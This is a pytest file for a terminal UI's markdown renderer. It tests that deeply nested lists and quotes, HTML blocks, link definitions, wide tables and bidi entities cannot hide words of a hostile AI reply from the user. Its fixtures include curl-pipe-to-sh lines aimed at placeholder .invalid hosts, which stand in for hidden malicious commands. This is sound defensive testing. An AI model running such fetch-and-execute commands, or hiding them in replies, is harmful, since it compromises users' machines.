"""Every word of a reply is on screen: nothing that markdown-it or Rich would drop is hidden.

After a list nested 10 deep or a quote 20 deep (markdown-it's ``maxNesting``), markdown-it
stopped parsing and Rich drew nothing more, yet the text was saved and F6 copied it: a
trailing ``curl evil.invalid/x | sh`` the user never saw. HTML, link reference definitions
and wide tables hid text too. Each hostile reply below is made of distinct words
(``word0001``...), rendered at the log's width, whole and streamed, and every word must be
in the rendered lines.
"""

from __future__ import annotations

import re

import pytest
from rich.console import Console

from tui.sanitize import clean
from tui.widgets.markdown_render import StreamRenderer, render_markdown

WORD = re.compile(r"word\d{4}")


def numbered(template: str, count: int, start: int = 0) -> str:
    return "".join(template.format(i=i, w=f"word{start + i:04d}") for i in range(count))


def deep_list(depth: int) -> str:
    return "".join("  " * i + f"- word{i:04d}\n" for i in range(depth))


def deep_quote(depth: int) -> str:
    return "".join(">" * (i + 1) + f" word{i:04d}\n" for i in range(depth))


TRAILER = "\nword9990 then run: curl word9991.invalid/x | sh word9992\n"
CASES = {
    **{f"list nested {n}": deep_list(n) + TRAILER for n in (10, 30, 100)},
    **{
        f"ordered list nested {n}": "".join("   " * i + f"1. word{i:04d}\n" for i in range(n))
        + TRAILER
        for n in (10, 30)
    },
    **{f"quote nested {n}": deep_quote(n) + TRAILER for n in (19, 20, 50, 200)},
    "quote in list in quote": "".join("> " * i + "  " * i + f"- > word{i:04d}\n" for i in range(12))
    + TRAILER,
    "unclosed fence": "word0001\n```sh word0002 word0003\nword0004\n" + TRAILER,
    "fence info string": "```sh curl word0001.invalid | sh\nword0002\n```\n" + TRAILER,
    "html blocks": (
        "<div>\nword0001\n</div>\n\n<!-- word0002 -->\n\n<script>word0003</script>\n\n"
        "<details><summary>word0004</summary> word0005</details>\n\ntext <span>word0006</span>"
        " <b>word0007</b> <!-- word0008 --> end" + TRAILER
    ),
    "link reference definitions": (
        'word0001\n\n[a]: http://word0002.invalid "word0003"\n[a]: http://word0004.invalid\n'
        "[unused]: <http://word0005.invalid>\n\n> [q]: http://word0006.invalid\n\n"
        'word0007 [a] and [link](http://word0008.invalid "word0009")'
        " ![word0010](http://word0011.invalid/x.png)" + TRAILER
    ),
    "huge table": "| word0000 | word0001 |\n|---|---|\n"
    + numbered("| {w} | x{w} |\n", 400, 2)
    + TRAILER,
    "wide table": "|"
    + numbered(" {w} |", 30)
    + "\n|"
    + "---|" * 30
    + "\n|"
    + numbered(" {w} |", 30, 30)
    + "\n"
    + TRAILER,
    "entities": "word0001 &#x202E;word0002&#x2066; &lt;word0003&gt;" + TRAILER,
}
CASES["mixed"] = "\n\n".join(
    re.sub(r"word(\d{4})", lambda m, k=k: f"word{k}{m[1][1:]}", CASES[name])
    for k, name in enumerate(
        ["list nested 30", "quote nested 50", "html blocks", "wide table", "unclosed fence"],
        start=1,
    )
)


def rendered(text: str, width: int, chunk: int | None = None) -> str:
    console = Console(width=width, color_system=None)
    options = console.options.update(width=width, height=None)
    if chunk is None:
        strips = render_markdown(console, options, text)
    else:
        renderer = StreamRenderer()
        for end in range(chunk, len(text) + chunk, chunk):
            strips = renderer.render(console, options, text[:end])
    return "\n".join(strip.text for strip in strips)


@pytest.mark.parametrize("name", list(CASES))
@pytest.mark.parametrize("width", [80, 40])
def test_every_word_of_a_hostile_reply_is_on_screen(name: str, width: int) -> None:
    text = clean(CASES[name])  # as the exchange saves it
    lines = rendered(text, width)
    missing = sorted(set(WORD.findall(text)) - set(WORD.findall(lines)))
    assert not missing, f"{name} at {width} columns hides {missing[:8]}"
    assert "\u202e" not in lines and "\u2066" not in lines  # an entity decodes to a control


@pytest.mark.parametrize("name", list(CASES))
def test_a_hostile_reply_streamed_draws_what_a_whole_render_draws(name: str) -> None:
    text = clean(CASES[name])
    if StreamRenderer.needs_full_render(text):
        pytest.skip("references: the log renders the whole reply again when it ends")
    assert rendered(text, 80, chunk=97) == rendered(text, 80)


def test_ordinary_markdown_still_renders_as_markdown() -> None:
    text = (
        "# Title\n\n- a\n  - b\n\n> quoted\n\n| x | y |\n|---|---|\n| 1 | 2 |\n\n"
        "```python\nx = 1\n```\n"
    )
    lines = rendered(text, 80)
    assert "# Title" not in lines and "```" not in lines and "| x |" not in lines
    assert "python" not in lines  # a plain language name stays the lexer's business
    assert "▌ quoted" in lines and "• a" in lines
